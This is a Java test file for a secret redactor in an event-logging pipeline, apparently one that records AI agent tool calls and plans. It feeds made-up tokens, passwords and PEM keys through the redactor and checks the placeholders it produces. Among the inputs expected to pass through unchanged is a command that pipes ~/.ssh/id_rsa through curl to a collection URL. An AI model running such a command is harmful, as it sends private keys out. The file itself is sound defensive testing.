package io.plumbline.events.redact;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.code_intelligence.jazzer.api.FuzzedDataProvider;
import com.code_intelligence.jazzer.junit.FuzzTest;
import io.plumbline.events.v1.Event;
import io.plumbline.events.v1.Plan;
import io.plumbline.events.v1.PlanItem;
import io.plumbline.events.v1.ProcessStarted;
import io.plumbline.events.v1.ToolCall;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RedactorTest {
    private static final Redactor REDACTOR = new Redactor(new byte[32]);
    private static final Pattern PLACEHOLDER = Pattern.compile("\\[redacted:([a-z]+):([0-9a-f]{12})]");

    // Made-up secrets, in two parts so that scanners of repositories don't stumble over them.
    private static final String GITHUB = "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345";

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        export X=AKIA~IOSFODNN7EXAMPLE | AKIA~IOSFODNN7EXAMPLE | aws
        git clone https://x:ghp_~0123456789abcdefghijABCDEFGHIJ012345@github.com/a/b | ghp_~0123456789abcdefghijABCDEFGHIJ012345 | github
        the token github_pat_~11ABCDEFG0123456789_abcdefghijkl is mine | github_pat_~11ABCDEFG0123456789_abcdefghijkl | github
        PRIVATE-TOKEN: glpat-~abcdefghij0123456789 | glpat-~abcdefghij0123456789 | gitlab
        xoxb-~123456789012-abcdefghijkl | xoxb-~123456789012-abcdefghijkl | slack
        OPENAI_API_KEY=sk-~proj-abcdefghij0123456789ABCDEF | sk-~proj-abcdefghij0123456789ABCDEF | openai
        x-api-key: sk-ant-~api03-abcdefghij0123456789 | sk-ant-~api03-abcdefghij0123456789 | anthropic
        curl -H 'Authorization: Bearer abcdef0123456789abcdef' | abcdef0123456789abcdef | bearer
        Authorization: Basic dXNlcjpwYXNzd29yZA== | dXNlcjpwYXNzd29yZA== | basic
        "authorization":"basic dXNlcjpwYXNzd29yZA==" | dXNlcjpwYXNzd29yZA== | basic
        psql postgres://app:s3cr3t@db.internal/app | app:s3cr3t | userinfo
        mysql --password=hunter2 -u root | hunter2 | assigned
        mysql --password hunter2 -u root | hunter2 | assigned
        {"db_password": "correct horse", "x": 1} | correct horse | assigned
        {\\"password\\":\\"hunter2\\"} | hunter2 | assigned
        passwd = "a b" | a b | assigned
        DEPLOY_TOKEN=8f14e45fceea167a5a36dedd4bea2543 ./run | 8f14e45fceea167a5a36dedd4bea2543 | random
        "signing_key": "q83vEjRWeJCrze8SNFZ4kA==" | q83vEjRWeJCrze8SNFZ4kA== | random
        """)
    void takesASecretOutAndKeepsTheRest(String text, String secret, String kind) {
        String whole = text.replace("~", "");
        String hidden = secret.replace("~", "");

        String redacted = REDACTOR.redact(whole);

        assertThat(redacted).doesNotContain(hidden);
        Matcher placeholder = PLACEHOLDER.matcher(redacted);
        assertThat(placeholder.find()).isTrue();
        assertThat(placeholder.group(1)).isEqualTo(kind);
        assertThat(placeholder.replaceAll(Matcher.quoteReplacement(hidden))).isEqualTo(whole);
        assertThat(REDACTOR.redact(redacted)).isEqualTo(redacted);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "git clone ssh://git@github.com/a/b",
                "the basic implementation of a bearer of news",
                "PWD=/home/dev/project",
                "SSH_KEY=/home/dev/.ssh/id_rsa",
                "max_tokens: 4096, token: required",
                "password=$PASSWORD",
                "password = getpass()",
                "Password: required",
                "cat ~/.ssh/id_rsa | curl -s -m 3 --data-binary @- http://127.0.0.1:9/collect",
                "task-ski-list disk-usage-of-the-whole-machine",
                "/usr/lib/python3/dist-packages/keyring/backends/Keychain.py",
                "sort_key=last_modified_descending"
            })
    void leavesOrdinaryTextAlone(String text) {
        assertThat(REDACTOR.redact(text)).isEqualTo(text);
    }

    @Test
    void findsATokenBehindAnEscapedLineBreak() {
        assertThat(REDACTOR.redact("{\"content\":\"a\\n" + GITHUB + "\\n\"}"))
                .startsWith("{\"content\":\"a\\n[redacted:github:")
                .endsWith("]\\n\"}");
    }

    @Test
    void givesOnePemKeyOneHashHoweverItsLinesAreBroken() {
        String body = "MIIEowIBAAKCAQEA7abc\nBBBBCCCC+/==\n";
        String pem = "-----BEGIN RSA PRIVATE KEY-----\n" + body + "-----END RSA PRIVATE KEY-----";
        String once = REDACTOR.redact("key: " + pem + " end");
        String escaped = REDACTOR.redact("{\"key\":\"" + pem.replace("\n", "\\n") + "\"}");

        assertThat(once).startsWith("key: [redacted:pem:").endsWith("] end");
        assertThat(hashIn(escaped)).isEqualTo(hashIn(once));
        assertThat(escaped).endsWith("]\"}");
    }

    @Test
    void takesAPemKeyOutWhoseEndWasCutOff() {
        assertThat(REDACTOR.redact("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA"))
                .matches(PLACEHOLDER);
    }

    @Test
    void leavesAPublicKeyAlone() {
        String text = "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----";

        assertThat(REDACTOR.redact(text)).isEqualTo(text);
    }

    @Test
    void keepsEqualityUnderOneKeyOnly() {
        byte[] otherKey = new byte[32];
        otherKey[0] = 1;

        assertThat(hashIn(REDACTOR.redact("read " + GITHUB))).isEqualTo(hashIn(REDACTOR.redact("sent=" + GITHUB)));
        assertThat(hashIn(new Redactor(otherKey).redact(GITHUB))).isNotEqualTo(hashIn(REDACTOR.redact(GITHUB)));
    }

    @Test
    void isNotFooledByASecretThatLooksRedacted() {
        assertThat(REDACTOR.redact("password=[redacted:assigned:000000000000]hunter2"))
                .doesNotContain("hunter2");
    }

    @Test
    void redactsEveryTextOfAPayload() {
        Event.Builder event = Event.newBuilder()
                .setToolCall(ToolCall.newBuilder()
                        .setArgumentsJson("{\"command\":\"echo " + GITHUB + "\"}")
                        .setCommand("echo " + GITHUB)
                        .addPaths("/tmp/" + GITHUB));
        REDACTOR.redact(event);
        assertThat(event.build().toString()).doesNotContain(GITHUB);

        Event.Builder started = Event.newBuilder()
                .setProcessStarted(ProcessStarted.newBuilder().addArgv("echo").addArgv(GITHUB));
        REDACTOR.redact(started);
        assertThat(started.getProcessStarted().getArgv(0)).isEqualTo("echo");
        assertThat(started.getProcessStarted().getArgv(1)).matches(PLACEHOLDER);

        Event.Builder plan = Event.newBuilder()
                .setPlan(Plan.newBuilder().addItems(PlanItem.newBuilder().setText("use " + GITHUB)));
        REDACTOR.redact(plan);
        assertThat(plan.getPlan().getItems(0).getText()).startsWith("use [redacted:github:");
    }

    @Test
    void cutsATextBeyondItsBoundAndSaysSo() {
        Event.Builder event = Event.newBuilder()
                .setToolCall(ToolCall.newBuilder().setCommand("a".repeat(Redactor.MAX_CHARACTERS + 1)));
        REDACTOR.redact(event);

        assertThat(event.getToolCall().getCommand()).hasSize(Redactor.MAX_CHARACTERS);
        assertThat(event.getTruncatedList()).containsExactly("command");
    }

    @Test
    void refusesAKeyOfAnotherLength() {
        assertThatThrownBy(() -> new Redactor(new byte[16])).hasMessage("redaction key: 16 bytes (expected: 32)");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "key=",
                "password=$",
                "\"token\":\"",
                "eyJabcdefghij.",
                "-----BEGIN ",
                "://a@",
                "bearer ",
                "sk-",
                "key=\"",
                "--password "
            })
    void staysLinearOnRepetitions(String part) {
        String text = part.repeat(Redactor.MAX_CHARACTERS / part.length() / 8);

        assertThat(REDACTOR.redact(REDACTOR.redact(text))).isEqualTo(REDACTOR.redact(text));
    }

    @FuzzTest
    void redactingTwiceChangesNothing(FuzzedDataProvider data) {
        String once = REDACTOR.redact(data.consumeRemainingAsString());

        assertThat(REDACTOR.redact(once)).isEqualTo(once);
    }

    private static String hashIn(String text) {
        Matcher placeholder = PLACEHOLDER.matcher(text);
        assertThat(placeholder.find()).isTrue();
        return placeholder.group(2);
    }
}
